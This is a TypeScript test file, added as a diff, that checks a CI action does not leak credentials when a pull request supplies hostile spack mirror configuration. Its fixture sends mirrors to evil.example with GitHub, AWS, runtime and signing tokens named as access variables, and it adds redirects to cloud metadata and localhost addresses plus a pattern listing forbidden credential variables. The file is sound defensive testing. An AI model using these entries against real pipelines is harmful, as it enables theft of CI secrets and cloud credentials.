@@ -1,0 +1,286 @@
+/**
+ * A workspace as a stranger's pull request leaves it: mirrors, includes, lists, redirects and token endpoints that want
+ * what the machine has. Every request of a run goes through one recording proxy; the table says which host got which secret.
+ */
+import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
+import { createServer as createPlain, type IncomingMessage, type ServerResponse } from 'node:http';
+import { createServer as createSecure } from 'node:https';
+import { type AddressInfo, connect } from 'node:net';
+import { join } from 'node:path';
+import tls from 'node:tls';
+import { afterEach, expect, test, vi } from 'vitest';
+import { makeCertificate } from '../harness/certificate.ts';
+import { startJob } from '../harness/runner.ts';
+import { tempDir } from '../harness/temp-dir.ts';
+import { environmentOf, fromSource, ROOT } from './shows.ts';
+
+/** What the machine has. Each is unlike all others, also in base64. */
+const SECRETS: Readonly<Record<string, string>> = {
+  'the mirror token': 'mirror-tok-7f3a9b',
+  'the runtime token': 'runtime-tok-81c2',
+  'the identity request token': 'idrequest-tok-5d',
+  'the GitHub token': 'ghs_github-tok-92a1',
+  'the signing passphrase': 'signing-pass-63be',
+  'the AWS secret': 'aws-secret-1d7e4f',
+  'the AWS session': 'aws-session-tok-e8',
+  'the Google token': 'ya29-google-tok-4b',
+  'the Google refresh token': 'google-refresh-c0',
+  'the docker password': 'docker-pass-f5d3',
+};
+
+const HOSTS = [
+  ...['evil.example', 'token.evil.example', 'mirror.good.example', 'registry.good.example', 'ghcr.io'],
+  ...['oauth2.googleapis.com', 'storage.googleapis.com', 'evil.execute-api.us-east-1.amazonaws.com'],
+];
+
+interface Seen {
+  /** `https://host` or `http://host`. */
+  readonly origin: string;
+  readonly secrets: readonly string[];
+}
+
+/** A proxy that is the whole world: it resolves nothing, answers for every host, and remembers what was said to whom. */
+async function startWorld() {
+  const certificate = makeCertificate(HOSTS);
+  const seen: Seen[] = [];
+  const handle = (scheme: string) => async (request: IncomingMessage, response: ServerResponse) => {
+    const chunks: Buffer[] = [];
+    for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
+    const target = URL.canParse(request.url ?? '') ? new URL(request.url ?? '') : undefined;
+    const host = (target?.host ?? request.headers.host ?? '').replace(/:(443|80)$/, '');
+    const path = target === undefined ? (request.url ?? '') : `${target.pathname}${target.search}`;
+    const said = JSON.stringify([request.headers, path, Buffer.concat(chunks).toString()]);
+    const basic = /Basic ([A-Za-z0-9+/=]+)/i.exec(said)?.[1] ?? '';
+    const all = `${said} ${Buffer.from(basic, 'base64').toString()} ${decodeURIComponent(path)}`;
+    const secrets = Object.entries(SECRETS).filter(([, secret]) => all.includes(secret));
+    seen.push({ origin: `${scheme}://${host}`, secrets: secrets.map(([name]) => name) });
+    answer(host, path, response);
+  };
+  const secure = createSecure(certificate, handle('https'));
+  const proxy = createPlain(handle('http'));
+  proxy.on('connect', (_, client, head) => {
+    const upstream = connect((secure.address() as AddressInfo).port, '127.0.0.1', () => {
+      client.write('HTTP/1.1 200 OK\r\n\r\n');
+      upstream.write(head);
+      upstream.pipe(client).pipe(upstream);
+    });
+    client.on('error', () => upstream.destroy());
+    upstream.on('error', () => client.destroy());
+  });
+  for (const server of [secure, proxy]) {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  }
+  const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+  const close = () => {
+    for (const server of [secure, proxy]) server.close().closeAllConnections();
+  };
+  return { seen, url, ca: certificate.cert, close };
+}
+
+function answer(host: string, path: string, response: ServerResponse): void {
+  const json = (value: unknown) =>
+    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));
+  if (host === 'oauth2.googleapis.com') {
+    return void json({ access_token: SECRETS['the Google token'], expires_in: 3600, token_type: 'Bearer' });
+  }
+  const realm = /\/v2\/(?:n\d)\//.test(path) ? 'token.evil.example' : 'ghcr.io';
+  if (path.startsWith('/v2/')) {
+    const challenge = `Bearer realm="${host === 'evil.example' ? `https://${realm}/token` : `https://${host}/token`}",service="s"`;
+    return void response.writeHead(401, { 'www-authenticate': challenge }).end();
+  }
+  if (path.startsWith('/token')) return void json({ token: 'of-nobody' });
+  const to = REDIRECTS.find(([from]) => path.startsWith(from))?.[1];
+  if (to !== undefined) return void response.writeHead(302, { location: to }).end();
+  response.writeHead(404).end();
+}
+
+const REDIRECTS = [
+  ['/to-metadata', 'http://169.254.169.254/latest/meta-data/iam'],
+  ['/to-metadata-name', 'http://metadata.google.internal/computeMetadata/v1/'],
+  ['/to-here', 'http://127.0.0.1:8125/x'],
+  ['/to-here-6', 'http://[::1]:8125/x'],
+  ['/good', 'https://evil.example/caught'],
+] as const;
+
+const PULL_REQUEST = `
+spack:
+  include: [more]
+  config: {verify_ssl: false}
+  mirrors:
+    gcs: {url: "gs://bucket/p", endpoint_url: "https://evil.example"}
+    gcs-plain: {url: "gs://bucket/p", endpoint_url: "http://evil.example"}
+    s3: {url: "s3://bucket/p", endpoint_url: "https://evil.example"}
+    s3-gateway: {url: "s3://bucket/p", endpoint_url: "https://evil.execute-api.us-east-1.amazonaws.com"}
+    s3-plain: {url: "s3://bucket/p", endpoint_url: "http://evil.example"}
+    runtime: {url: "https://evil.example/a", access_token_variable: ACTIONS_RUNTIME_TOKEN}
+    signing: {url: "https://evil.example/b", access_pair: {id: x, secret_variable: BUILDCACHE_SIGNING_PASSPHRASE}}
+    input: {url: "https://evil.example/b2", access_token_variable: INPUT_GITHUB-TOKEN}
+    github: {url: "https://evil.example/c", access_token_variable: GITHUB_TOKEN}
+    aws: {url: "https://evil.example/d", access_pair: {id_variable: AWS_ACCESS_KEY_ID, secret_variable: AWS_SECRET_ACCESS_KEY}}
+    wants: {url: "https://evil.example/e", access_token_variable: MIRROR_TOKEN}
+    wants-oci: {url: "oci://evil.example/n1", access_token_variable: MIRROR_TOKEN}
+    ghcr-realm: "oci://evil.example/n/m"
+    ghcr-plain: "oci+http://ghcr.io/o/n"
+    docker-plain: "oci+http://registry.good.example/o/n"
+    docker-good: "oci://registry.good.example/o/n"
+    path: "$BUILDCACHE_SIGNING_PASSPHRASE/x"
+    to-metadata: "https://evil.example/to-metadata"
+    to-metadata-name: "https://evil.example/to-metadata-name"
+    to-here: "https://evil.example/to-here"
+    to-here-6: "https://evil.example/to-here-6"
+`;
+
+const INCLUDED = `
+mirrors:
+  identity: {url: "https://evil.example/i", access_token_variable: ACTIONS_ID_TOKEN_REQUEST_TOKEN}
+`;
+
+/** What the workflow itself says, in its own file. */
+const GOOD = 'good: {url: "https://mirror.good.example/good", access_token_variable: MIRROR_TOKEN}';
+
+const FORBIDDEN = /(?:ACTIONS_RUNTIME|SIGNING_PASSPHRASE}|INPUT_GITHUB|: GITHUB_TOKEN|AWS_SECRET)/;
+
+// Twenty mirrors of all kinds, on a machine that may be busy.
+vi.setConfig({ testTimeout: 60_000 });
+
+const authorities = tls.getCACertificates('default');
+afterEach(() => tls.setDefaultCACertificates(authorities));
+
+async function run(event: string, inputs: Readonly<Record<string, string>>, manifest = PULL_REQUEST) {
+  const world = await startWorld();
+  tls.setDefaultCACertificates([...authorities, world.ca]);
+  await using dir = await tempDir();
+  const env = join(dir.path, 'env');
+  mkdirSync(join(env, 'more'), { recursive: true });
+  cpSync(join(environmentOf('1.2'), 'spack.lock'), join(env, 'spack.lock'));
+  writeFileSync(join(env, 'spack.yaml'), manifest);
+  writeFileSync(join(env, 'more/mirrors.yaml'), manifest === PULL_REQUEST ? INCLUDED : '');
+  const hashes = [...'abc'].map((letter) => letter.repeat(32));
+  const entry = (mirror: string, hash: string) =>
+    `${mirror}/v3/manifests/spec/a/a-1-${hash}.spec.manifest.json`;
+  for (const [i, at] of [
+    'http://127.0.0.1:8125',
+    'http://169.254.169.254',
+    'http://localhost:8125',
+  ].entries()) {
+    const hash = hashes[i] ?? '';
+    const list = { [hash]: { src: entry(at, hash), dest: entry(`file://${dir.path}/to`, hash) } };
+    writeFileSync(join(dir.path, `list-${i}.json`), JSON.stringify(list));
+  }
+  const docker = join(dir.path, 'docker');
+  mkdirSync(docker);
+  const auth = Buffer.from(`me:${SECRETS['the docker password']}`).toString('base64');
+  writeFileSync(
+    join(docker, 'config.json'),
+    JSON.stringify({ auths: { 'registry.good.example': { auth } } }),
+  );
+  const google = join(dir.path, 'google.json');
+  const user = { client_id: 'i', client_secret: 's', refresh_token: SECRETS['the Google refresh token'] };
+  writeFileSync(google, JSON.stringify({ type: 'authorized_user', ...user }));
+  await using job = await startJob({
+    workspace: dir.path,
+    here: fromSource,
+    event: { name: event, payload: { pull_request: { number: 1, head: { repo: { full_name: 'm/r' } } } } },
+    github: { token: SECRETS['the GitHub token'] ?? '' },
+    services: {
+      ACTIONS_RUNTIME_TOKEN: SECRETS['the runtime token'] ?? '',
+      ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRETS['the identity request token'] ?? '',
+    },
+    env: {
+      http_proxy: world.url,
+      https_proxy: world.url,
+      MIRROR_TOKEN: SECRETS['the mirror token'] ?? '',
+      GITHUB_TOKEN: SECRETS['the GitHub token'] ?? '',
+      BUILDCACHE_SIGNING_PASSPHRASE: SECRETS['the signing passphrase'] ?? '',
+      AWS_ACCESS_KEY_ID: 'AKIA1',
+      AWS_SECRET_ACCESS_KEY: SECRETS['the AWS secret'] ?? '',
+      AWS_SESSION_TOKEN: SECRETS['the AWS session'] ?? '',
+      AWS_REGION: 'us-east-1',
+      GOOGLE_APPLICATION_CREDENTIALS: google,
+      DOCKER_CONFIG: docker,
+    },
+  });
+  const result = await job.uses(ROOT, {
+    with: {
+      environment: 'env',
+      mirrors: GOOD,
+      retries: 0,
+      timeout: 5,
+      'on-unknown': 'warn',
+      'index-cache': false,
+      autopush: false,
+      ...inputs,
+    },
+  });
+  world.close();
+  const table = new Map<string, Set<string>>();
+  for (const { origin, secrets } of world.seen) {
+    table.set(origin, new Set([...(table.get(origin) ?? []), ...secrets]));
+  }
+  const got = Object.fromEntries(
+    [...table].map(([origin, names]) => [origin, [...names].sort().join(', ') || 'none']),
+  );
+  return { result, got };
+}
+
+/** Ours: the mirror the workflow names, whoever the machine is logged in with, and Google's own token service. */
+const OWN = {
+  'https://mirror.good.example': 'the mirror token',
+  'https://registry.good.example': 'the docker password',
+};
+
+test('on pull_request_target, no secret leaves for what only the checkout names', async () => {
+  const { got, result } = await run('pull_request_target', {});
+  expect(got).toEqual({
+    ...OWN,
+    'https://evil.example': 'none',
+    'https://token.evil.example': 'none',
+    'https://ghcr.io': 'none',
+    'https://evil.execute-api.us-east-1.amazonaws.com': 'none',
+    'http://evil.example': 'none',
+    'http://ghcr.io': 'none',
+    'http://registry.good.example': 'none',
+  });
+  expect(JSON.stringify(result.annotations)).toMatch(/gets no credentials on pull_request_target/);
+});
+
+test('with only-mirrors, nobody but the mirrors that are meant is spoken to', async () => {
+  const { got } = await run('pull_request', { 'only-mirrors': 'good' });
+  // Where it leads on it may: without what is secret.
+  expect(got).toEqual({ 'https://mirror.good.example': 'the mirror token', 'https://evil.example': 'none' });
+});
+
+test('on pull_request, whose author may change the workflow too, a named variable goes where it is named for', async () => {
+  const lines = PULL_REQUEST.split('\n').filter((line) => !FORBIDDEN.test(line));
+  const { got } = await run('pull_request', {}, lines.join('\n'));
+  expect(got).toEqual({
+    ...OWN,
+    'https://evil.example': 'the mirror token',
+    'https://token.evil.example': 'the mirror token',
+    'https://ghcr.io': 'none',
+    'https://evil.execute-api.us-east-1.amazonaws.com': 'none',
+    'http://evil.example': 'none',
+    'http://ghcr.io': 'none',
+    'http://registry.good.example': 'none',
+  });
+});
+
+test.each(PULL_REQUEST.split('\n').filter((line) => FORBIDDEN.test(line)))(
+  "what is the job itself is nobody's credential, in any event: %s",
+  async (line) => {
+    const { got, result } = await run('pull_request', {}, `spack:\n  mirrors:\n${line}\n`);
+    expect(got['https://evil.example'] ?? 'none').toBe('none');
+    expect(JSON.stringify(result.annotations)).toMatch(/mirror \\"\w+\\" may not have [A-Z_-]+: it is /);
+  },
+);
+
+test('copy-lists lead to no address of this machine, even where they may name any other host', async () => {
+  const { got, result } = await run('schedule', {
+    command: 'sync',
+    'copy-list': 'list-*.json',
+    'allow-other-hosts': 'true',
+    'only-mirrors': 'good',
+  });
+  expect(got).toEqual({});
+  expect(JSON.stringify(result.annotations)).toMatch(/leads to an address of this machine/);
+});
